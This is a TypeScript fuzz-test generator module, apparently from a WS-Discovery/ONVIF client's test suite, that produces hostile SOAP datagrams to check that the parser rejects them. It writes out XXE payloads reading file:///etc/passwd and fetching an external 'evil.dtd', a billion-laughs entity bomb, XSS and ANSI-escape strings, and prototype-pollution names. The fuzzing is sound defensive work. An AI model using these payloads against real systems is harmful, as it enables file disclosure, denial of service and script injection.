/**
 * Generators of hostile input for the fuzz suite: real device replies mutated byte by byte, and hand-picked
 * attacks (entities, DTDs, 64 KiB edges, invalid UTF-8, deep nesting, many attributes, control/HTML/ANSI text,
 * prototype-named elements) placed into otherwise plausible messages.
 */
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';

/** Cases per parser per run; the brief asks for at least 10,000. Override with FUZZ_RUNS to dig deeper. */
export const RUNS = Number(process.env.FUZZ_RUNS ?? 10_000);
/** Per property; generous because CI machines are shared (a property takes 1–15 s on a 2-core box). */
export const FUZZ_TIMEOUT_MS = 120_000;

const FIXTURE_DIR = new URL('../fixtures/wsd/', import.meta.url);
export const FIXTURES: Uint8Array[] = readdirSync(FIXTURE_DIR)
  .filter((name) => name.endsWith('.xml'))
  .sort()
  .map((name) => new Uint8Array(readFileSync(new URL(name, FIXTURE_DIR))));

export const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

/** Text a device name or scope could carry to mislead a UI or a terminal. */
export const nastyText = fc.oneof(
  fc.constantFrom(
    '<img src=x onerror=alert(1)>',
    '"><script>alert(1)</script>',
    '\u001b[31mRED\u001b[0m\u001b]0;title\u0007',
    '\u0000\u0001\u0002\u0007\u0008\u001f\u007f\u0085\u009b',
    '\u202e\u200b\ufeff\ud800',
    '%00%0a%0d%1b%ff%',
    '&amp;&lt;&#0;&#x110000;&#65;&unknown;',
    '${constructor}{{__proto__}}',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

/** Byte sequences that are not valid UTF-8: stray continuation, overlong, surrogate, truncated, 0xFF. */
export const invalidUtf8 = fc.constantFrom(
  [0x80],
  [0xc0, 0xaf],
  [0xc3, 0x28],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xe2, 0x82],
  [0xff, 0xfe],
  [0xef, 0xbb, 0xbf],
);

type Mutation = { op: 'flip' | 'insert' | 'delete'; at: number; byte: number };
const mutation: fc.Arbitrary<Mutation> = fc.record({
  op: fc.constantFrom('flip', 'insert', 'delete'),
  at: fc.nat(),
  byte: fc.integer({ min: 0, max: 255 }),
});

function mutate(source: Uint8Array, mutations: Mutation[]): Uint8Array {
  const bytes = Array.from(source);
  for (const { op, at, byte } of mutations) {
    const i = bytes.length === 0 ? 0 : at % bytes.length;
    if (op === 'flip') bytes[i] = (bytes[i] ?? 0) ^ (1 << (byte % 8));
    else if (op === 'insert') bytes.splice(i, 0, byte);
    else bytes.splice(i, 1);
  }
  return Uint8Array.from(bytes);
}

/** A real reply (our fixtures) with a few bytes flipped, inserted or deleted. */
export const mutatedFixture = fc
  .tuple(fc.constantFrom(...FIXTURES), fc.array(mutation, { minLength: 1, maxLength: 12 }))
  .map(([source, mutations]) => mutate(source, mutations));

const utf8 = (text: string) => new TextEncoder().encode(text);
const NS =
  'xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" ' +
  'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" xmlns:dn="http://www.onvif.org/ver10/network/wsdl"';
const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');

/** A ProbeMatches reply whose pieces are hostile: names, scopes, XAddrs, endpoint and header text. */
const hostileReply = fc
  .record({
    name: nastyText,
    scopes: fc.array(fc.oneof(nastyText, fc.constant('onvif://www.onvif.org/MAC/00:40:8c:12:34:56')), { maxLength: 8 }),
    endpoint: nastyText,
    relatesTo: nastyText,
    element: fc.constantFrom(...PROTOTYPE_NAMES, 'ProbeMatch', 'Hello', 'Types'),
    matches: fc.integer({ min: 0, max: 80 }),
    raw: fc.boolean(),
  })
  .map(({ name, scopes, endpoint, relatesTo, element, matches, raw }) => {
    const put = raw ? (text: string) => text : escape; // raw: markup in text breaks the XML on purpose
    const match =
      `<d:ProbeMatch><a:EndpointReference><a:Address>${put(endpoint)}</a:Address></a:EndpointReference>` +
      `<d:Types>dn:NetworkVideoTransmitter</d:Types><d:Scopes>onvif://www.onvif.org/name/${put(name)} ${scopes.map(put).join(' ')}</d:Scopes>` +
      `<d:XAddrs>http://198.18.0.9/onvif/device_service</d:XAddrs><${element}><polluted>yes</polluted></${element}></d:ProbeMatch>`;
    return utf8(
      `<s:Envelope ${NS}><s:Header><a:RelatesTo>${put(relatesTo)}</a:RelatesTo></s:Header>` +
        `<s:Body><d:ProbeMatches>${match.repeat(Math.max(1, matches % 70))}</d:ProbeMatches></s:Body></s:Envelope>`,
    );
  });

/** DTDs, entity bombs and external entities, which SOAP forbids and we refuse. */
const entityAttack = fc
  .constantFrom(
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x SYSTEM "http://198.18.0.1/evil.dtd">',
    '<!doctype x [<!ENTITY % p SYSTEM "http://198.18.0.1/p">%p;]>',
    '',
  )
  .chain((prologue) =>
    fc
      .constantFrom('&lol3;', '&xxe;', '&amp;&#x26;amp;', '&#1114112;&#0;', '&lt;!ENTITY x "y"&gt;')
      .map((ref) => utf8(`${prologue}<s:Envelope ${NS}><s:Body><d:Hello><d:Scopes>${ref}</d:Scopes></d:Hello></s:Body></s:Envelope>`)),
  );

/** Elements nested deeper than the parser's limit, or right at it. */
const deepNesting = fc
  .integer({ min: 25, max: 400 })
  .map((depth) =>
    utf8(`<s:Envelope ${NS}><s:Body><d:Hello>${'<d:x>'.repeat(depth)}t${'</d:x>'.repeat(depth)}</d:Hello></s:Body></s:Envelope>`),
  );

/** One element with hundreds of attributes, some prototype-named, some duplicated. */
const manyAttributes = fc
  .tuple(fc.integer({ min: 1, max: 2000 }), fc.constantFrom(...PROTOTYPE_NAMES, 'InstanceId'))
  .map(([count, name]) =>
    utf8(
      `<s:Envelope ${NS}><s:Header><d:AppSequence ${name}="1" InstanceId="1" MessageNumber="2" ` +
        Array.from({ length: count }, (_, i) => `a${i}="${i}"`).join(' ') +
        `/></s:Header><s:Body><d:Bye/></s:Body></s:Envelope>`,
    ),
  );

/** A real reply padded to one byte under, at, or over the 64 KiB limit. */
const sizeEdge = fc
  .tuple(fc.constantFrom(...FIXTURES), fc.constantFrom(65_535, 65_536, 65_537), fc.constantFrom(' ', '\u0001', 'a ', '<x/>'))
  .map(([source, size, pad]) => {
    const text = new TextDecoder().decode(source);
    const at = text.lastIndexOf('</');
    const room = Math.max(0, size - source.byteLength);
    const padding = pad.repeat(Math.ceil(room / pad.length)).slice(0, room);
    const bytes = utf8(text.slice(0, Math.max(0, at)) + padding + text.slice(Math.max(0, at)));
    return bytes.slice(0, size);
  });

/** Invalid UTF-8 spliced into a real reply. */
const brokenUtf8 = fc.tuple(fc.constantFrom(...FIXTURES), invalidUtf8, fc.nat()).map(([source, bad, at]) => {
  const i = at % source.byteLength;
  return Uint8Array.from([...source.slice(0, i), ...bad, ...source.slice(i)]);
});

/** Anything: random bytes, and random text that starts like XML. */
const junk = fc.oneof(
  fc.uint8Array({ maxLength: 512 }),
  fc.string({ unit: 'binary', maxLength: 512 }).map((text) => utf8(`<${text}`)),
);

/** Every kind of hostile WS-Discovery datagram, weighted so the whole suite stays fast. */
export const hostileDatagram: fc.Arbitrary<Uint8Array> = fc.oneof(
  { arbitrary: mutatedFixture, weight: 10 },
  { arbitrary: hostileReply, weight: 6 },
  { arbitrary: entityAttack, weight: 2 },
  { arbitrary: deepNesting, weight: 2 },
  { arbitrary: manyAttributes, weight: 1 },
  { arbitrary: sizeEdge, weight: 1 },
  { arbitrary: brokenUtf8, weight: 3 },
  { arbitrary: junk, weight: 3 },
);

/** Object.prototype's own keys now, to prove later that nothing was added. */
export const prototypeKeys = (): string[] => Object.getOwnPropertyNames(Object.prototype).sort();

/**
 * fc.assert options: RUNS cases, and a failure report that names the seed and path to replay and a short
 * preview of the counterexample (a 64 KiB datagram printed whole would bury the reason).
 */
export const FUZZ = {
  numRuns: RUNS,
  reporter: (details: {
    failed: boolean;
    counterexample: unknown;
    seed: number;
    counterexamplePath: string | null;
    errorInstance: unknown;
  }): void => {
    if (!details.failed) return;
    const preview = JSON.stringify(details.counterexample, (_k, v: unknown) =>
      v instanceof Uint8Array ? Buffer.from(v).toString('latin1') : v,
    );
    throw new Error(
      `fuzz case failed: ${String(details.errorInstance)}\n` +
        `replay with { seed: ${details.seed}, path: "${details.counterexamplePath}" }\n` +
        `counterexample (${preview?.length ?? 0} chars): ${preview?.slice(0, 600) ?? ''}`,
    );
  },
};
